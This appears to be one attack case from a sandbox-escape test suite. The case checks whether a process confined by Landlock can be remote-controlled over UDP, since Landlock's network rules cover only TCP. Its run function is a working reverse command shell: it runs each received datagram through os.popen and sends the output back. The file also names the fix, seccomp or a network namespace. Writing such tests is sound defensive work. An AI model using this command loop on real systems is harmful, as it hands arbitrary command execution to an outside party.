# SPDX-License-Identifier: MIT
"""Goal:  somebody outside gives the orders.
Means: datagrams. The first one says "here I am", each one that comes back is an order. There is no
       connection, and Landlock's network rules know TCP only.
"""

import os
import socket

from attack import DONE, attempting, denied


def run(brief):
    attempting()
    try:
        attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attacker.settimeout(3)
        attacker.sendto(b"hello\n", ("127.0.0.1", brief.shell))
        for _ in range(4):
            order, sender = attacker.recvfrom(512)
            attacker.sendto(os.popen(order.decode()).read().encode() or b"\n", sender)
    except TimeoutError:
        return DONE  # nobody gives orders any more
    except OSError as why:
        return denied("UDP", why)
    return DONE


ATTACK = {
    "effect": "somebody outside gives the orders",
    "means": "a command loop over UDP",
    "oracle": "shell",
    "id": "RSH-06",
    "attack_id": "T1059.004, T1095, CWE-668",
    "remedy": "seccomp without socket(2), datagrams included; a network namespace",
    "refs": ["landlock(7)"],
    "run": run,
}
